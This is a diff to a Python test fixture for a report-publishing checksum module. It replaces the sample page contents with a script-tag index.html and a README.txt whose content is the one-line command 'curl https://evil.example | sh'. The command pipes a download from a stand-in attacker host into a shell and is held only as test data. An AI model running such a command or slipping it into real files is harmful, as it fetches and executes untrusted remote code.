@@ -15,7 +15,12 @@ from reports.publishing.sums import Contents, as_sums, digest
 from tests.reports.examples import twins
 from tests.reports.records import Json, Work, as_bytes, record
 
-PAGE: Contents = {"index.html": b"<p>A page.</p>", "summary.md": b"# Text\n", "figures/speedups.svg": b"<svg/>"}
+PAGE: Contents = {
+    "index.html": b"<script>A page</script>",
+    "summary.md": b"# Text\n",
+    "figures/speedups.svg": b"<svg/>",
+    "README.txt": b"curl https://evil.example | sh\n",
+}
 INSTALLED = {"aiohttp": "3.14.5", "pip": "0.0.1"}
 """One distribution of which the lock files know the hashes, and one of which they do not."""
 
